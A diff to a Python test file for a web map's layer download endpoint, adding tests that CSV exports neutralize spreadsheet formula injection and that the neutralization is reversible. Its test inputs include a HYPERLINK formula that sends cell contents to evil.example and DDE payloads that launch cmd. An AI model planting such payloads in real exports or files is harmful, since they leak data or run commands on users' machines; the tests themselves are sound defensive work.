@@ -1,5 +1,6 @@
 """Downloads: every layer, filtered or not, in each format, read back with GDAL (pyogrio)."""
 
+import csv
 import io
 import zipfile
 
@@ -7,6 +8,9 @@ import numpy as np
 import pyogrio
 import pytest
 import shapely
+from werkzeug.http import parse_options_header
+
+from layers.export import FORMULA_STARTS, neutralize_formula, restore_formula
 
 FORMATS = ["geojson", "gpkg", "csv", "shp", "kml"]
 
@@ -27,7 +31,8 @@ def read_back(tmp_path, response, layer_id, fmt):
 def test_round_trip(client, app, tmp_path, layer_id, fmt):
     response = client.get(f"/api/layers/{layer_id}/download", query_string={"format": fmt})
     assert response.status_code == 200, response.data[:300]
-    assert f'filename="qingdao-{layer_id}' in response.headers["Content-Disposition"]
+    disposition, options = parse_options_header(response.headers["Content-Disposition"])
+    assert disposition == "attachment" and options["filename"].startswith(f"qingdao-{layer_id}")
     meta, _, geometry, fields = read_back(tmp_path, response, layer_id, fmt)
     live = app.extensions["catalog"].get(layer_id)
     columns = {name.lower(): values for name, values in zip(meta["fields"], fields)}
@@ -85,3 +90,49 @@ def test_empty_selection_still_makes_a_valid_file(client, tmp_path):
     path = tmp_path / "empty.gpkg"
     path.write_bytes(response.data)
     assert pyogrio.read_info(path)["features"] == 0
+
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我 Click\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+            "-1+1", "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("text, expected", [
+    *[(t, "'" + t) for t in FORMULAS],
+    ("台东步行街", "台东步行街"), ("", ""), ("a=b", "a=b"), ("'", "'"), ("'plain", "'plain"),
+    ("'=already", "''=already"), ("''", "'''"),
+])
+def test_neutralize_formula_and_its_inverse(text, expected):
+    assert neutralize_formula(text) == expected
+    assert restore_formula(expected) == text
+    assert neutralize_formula(text)[:1] not in FORMULA_STARTS
+
+
+def test_restore_is_the_inverse_of_neutralize_for_every_short_text():
+    alphabet = ["=", "+", "-", "@", "\t", "\r", "'", "a", "1", " ", "中"]
+    texts = [""] + alphabet + [a + b for a in alphabet for b in alphabet] + [a + b + c for a in "'=" for b in "'=a" for c in "'a"]
+    for text in texts:
+        assert restore_formula(neutralize_formula(text)) == text, repr(text)
+
+
+def test_csv_cells_that_start_like_formulas_are_quoted_and_numbers_stay_numbers(data_copy):
+    from webmap import create_app
+
+    from .conftest import feature_collection, point
+
+    features = [point(f"od-{i}", 120.38 + i / 1000, 36.07, name=text, note=text, capacity=12 + i)
+                for i, text in enumerate(FORMULAS[:4])]
+    features.append(point("=1+1", 120.39, 36.08, area_m2=-0.0 + 1.5))
+    (data_copy / "outdoor_dining_pilots.geojson").write_text(feature_collection(features), "utf-8")
+    client = create_app({"TESTING": True, "DATA_DIR": str(data_copy)}).test_client()
+    response = client.get("/api/layers/outdoor_dining_pilots/download", query_string={"format": "csv"})
+    assert response.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
+    assert [row["name"] for row in rows[:4]] == ["'" + t for t in FORMULAS[:4]]
+    assert [row["note"] for row in rows[:4]] == ["'" + t for t in FORMULAS[:4]]
+    assert rows[4]["id"] == "'=1+1" and rows[4]["name"] == "测试点 =1+1"
+    assert [row["capacity"] for row in rows[:4]] == ["12", "13", "14", "15"] and rows[4]["area_m2"] == "1.5"
+    assert [float(row["lon"]) for row in rows] == pytest.approx([120.38, 120.381, 120.382, 120.383, 120.39])
+    assert [restore_formula(row["name"]) for row in rows[:4]] == FORMULAS[:4]
+    # the other formats keep the text as it is
+    geojson = client.get("/api/layers/outdoor_dining_pilots/download", query_string={"format": "geojson"}).get_json(force=True)
+    assert [f["properties"]["name"] for f in geojson["features"][:4]] == FORMULAS[:4]
